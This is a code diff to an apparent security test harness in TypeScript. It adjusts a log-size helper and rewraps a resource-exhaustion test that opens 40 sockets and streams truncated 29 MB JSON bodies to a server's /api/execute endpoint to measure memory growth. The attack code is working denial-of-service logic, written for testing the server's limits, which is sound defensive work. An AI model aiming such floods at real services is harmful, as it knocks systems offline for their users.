@@ -19,10 +19,11 @@ const as = (key: string, init: RequestInit = {}): RequestInit => ({
   headers: { "x-api-key": key, ...(init.headers as Record<string, string>) },
 });
 
+/** The server may delete a sealed log between the listing and the look at its size. */
 const logBytes = ({ logDir }: Target): number =>
   readdirSync(logDir)
     .filter((name) => /^security\.log(\.\d+)?$/.test(name))
-    .reduce((sum, name) => sum + statSync(path.join(logDir, name)).size, 0);
+    .reduce((sum, name) => sum + (statSync(path.join(logDir, name), { throwIfNoEntry: false })?.size ?? 0), 0);
 
 /** Resident memory of the server's process. */
 const residentBytes = (pid: number): number =>
@@ -65,7 +66,12 @@ async function deleteSessions(target: Target, key: string, sessions: readonly st
   for (const session of sessions) await target.send(`/api/sessions/${session}`, as(key, { method: "DELETE" }));
 }
 
-const attack = (name: string, act: NonNullable<Attack["act"]>): Attack => ({ name, code: "", act });
+const attack = (name: string, act: NonNullable<Attack["act"]>, rest: Partial<Attack> = {}): Attack => ({
+  name,
+  code: "",
+  act,
+  ...rest,
+});
 
 /** What a client can make grow or repeat, before it has said who it is and after. */
 export const UNBOUNDED: Technique = {
@@ -142,26 +148,30 @@ export const UNBOUNDED: Technique = {
       for (const other of sockets) other.destroy();
       return saying(!reply.includes("200 OK"), prize);
     }),
-    attack("40 bodies of 29 MB that stop before their end", async (target, prize) => {
-      const head = `POST /api/execute HTTP/1.1\r\nHost: x\r\nX-API-Key: ${MALLORY}\r\nContent-Type: application/json\r\n`;
-      const body = Buffer.alloc(29_000_000, "[");
-      const sockets = await Promise.all(
-        Array.from({ length: 40 }, () => open(target, "127.0.0.2", `${head}Content-Length: 30000000\r\n\r\n`)),
-      );
-      const before = residentBytes(prize.pid);
-      await Promise.all(
-        sockets.map(
-          (socket) =>
-            new Promise<void>((resolve) => {
-              socket.once("close", () => resolve()).resume();
-              socket.write(body, () => resolve());
-            }),
-        ),
-      );
-      await new Promise((resolve) => setTimeout(resolve, 1000));
-      const grown = residentBytes(prize.pid) - before;
-      for (const socket of sockets) socket.destroy();
-      return saying(grown > 800 * MIB, prize);
-    }),
+    attack(
+      "40 bodies of 29 MB that stop before their end",
+      async (target, prize) => {
+        const head = `POST /api/execute HTTP/1.1\r\nHost: x\r\nX-API-Key: ${MALLORY}\r\nContent-Type: application/json\r\n`;
+        const body = Buffer.alloc(29_000_000, "[");
+        const sockets = await Promise.all(
+          Array.from({ length: 40 }, () => open(target, "127.0.0.2", `${head}Content-Length: 30000000\r\n\r\n`)),
+        );
+        const before = residentBytes(prize.pid);
+        await Promise.all(
+          sockets.map(
+            (socket) =>
+              new Promise<void>((resolve) => {
+                socket.once("close", () => resolve()).resume();
+                socket.write(body, () => resolve());
+              }),
+          ),
+        );
+        await new Promise((resolve) => setTimeout(resolve, 1000));
+        const grown = residentBytes(prize.pid) - before;
+        for (const socket of sockets) socket.destroy();
+        return saying(grown > 800 * MIB, prize);
+      },
+      { connections: 40 },
+    ),
   ],
 };
